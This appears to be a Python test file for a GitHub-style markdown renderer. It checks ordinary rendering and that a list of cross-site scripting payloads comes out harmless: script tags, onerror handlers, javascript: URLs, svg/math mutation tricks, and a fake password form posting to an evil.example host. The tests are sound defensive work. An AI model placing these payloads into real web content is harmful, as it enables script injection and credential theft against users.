"""Markdown looks as on GitHub, and is harmless whatever it is."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.markdown import ATTRIBUTES, SCHEMES, TAGS, VOID, render

OURS = {"class", "rel"}


class Inspector(HTMLParser):
    """Collects what a browser would be given."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | OURS:
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src") and ":" in (value or "").split("/")[0]:
                scheme = (value or "").split(":")[0].lower()
                if scheme not in SCHEMES:
                    self.wrong.append(f"{tag} {name}={value}")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")


def wrongs(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return [*inspector.wrong, *(f"open {tag}" for tag in inspector.open)]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        (
            "<details><summary>More</summary>\n\n`x`\n\n</details>",
            "<details><summary>More</summary>\n<p><code>x</code></p>",
        ),
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", '<td align="center">2</td>'),
        ("~~old~~ **new**", "<del>old</del> <strong>new</strong>"),
        ("```python\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("```diff\n-a\n+b\n```", '<span class="removed">-a\n</span><span class="added">+b\n</span>'),
        (
            "```suggestion\nb\n```",
            '<div class="suggestion-title">Suggested change</div><pre><code><span class="added">b',
        ),
        ("- [x] done", '<input type="checkbox" checked="" disabled="">'),
        ("<sub>small</sub> <kbd>Ctrl</kbd>", "<sub>small</sub> <kbd>Ctrl</kbd>"),
        ("[run](https://github.example/a)", '<a href="https://github.example/a" rel="nofollow noopener">run</a>'),
        ("see https://github.example/a", '<a href="https://github.example/a"'),
    ],
)
def test_what_github_shows_is_shown(text: str, html: str) -> None:
    assert html in render(text)
    assert wrongs(render(text)) == []


def test_a_hidden_marker_stays_hidden() -> None:
    assert "marker" not in render("<!-- marker -->\nshown <!-- marker -->")


def test_references_lead_where_they_lead_and_nowhere_in_code() -> None:
    known = {"@mona": "/mona", "#12": "/octo/shop/issues/12", "abcdef1": "/octo/shop/commit/abcdef1"}
    html = render("@mona #12 abcdef1 @nobody #13 mail@mona `@mona`", known.get)
    assert '<a class="mention" href="/mona">@mona</a>' in html
    assert '<a class="reference" href="/octo/shop/issues/12">#12</a>' in html
    assert "<code>abcdef1</code></a>" in html
    assert "@nobody #13 mail@mona <code>@mona</code>" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example>",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "[x](javascript:alert(1))",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='JAVASCRIPT&colon;alert(1)'>x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a> <a href='//[broken'>x</a>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<style>body { display: none }</style><link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0> <base href=//evil.example>",
        "<p style='position: fixed'>over everything</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<details><table><tr><td></details></td></div></article></main></body>",
        "<b><i><u>never closed",
        "```\n</code></pre><script>alert(1)</script>\n```",
        '``` "><script>alert(1)</script>\nx\n```',
        "<pre lang='\"><script>'>x</pre>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\x00<scr\x00ipt>alert(1)</script>",
        "<textarea><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE html>",
    ],
)
def test_hostile_text_becomes_harmless(text: str) -> None:
    html = render(f"before\n\n{text}\n\nafter")
    assert wrongs(html) == []
    assert "before" in html


PIECES = st.sampled_from(
    [
        *("<", ">", "</", "<a href=", "<img ", "'", '"', "`", "```", "\n", "\n\n", "<pre lang=diff>", "<details>"),
        *("</details>", "<table>", "<td>", "</p>", "<svg>", "</svg>", "<style>", "onerror=x", "javascript:", "&#"),
        *("&lt;", "<!--", "-->", "|", "[x](", ")", "<script>", "@mona", "#1", " "),
    ]
)


@given(st.lists(st.one_of(PIECES, st.text(max_size=4)), max_size=25).map("".join))
def test_any_text_becomes_harmless_and_balanced(text: str) -> None:
    assert wrongs(render(text, lambda word: f"/{word[1:]}")) == []
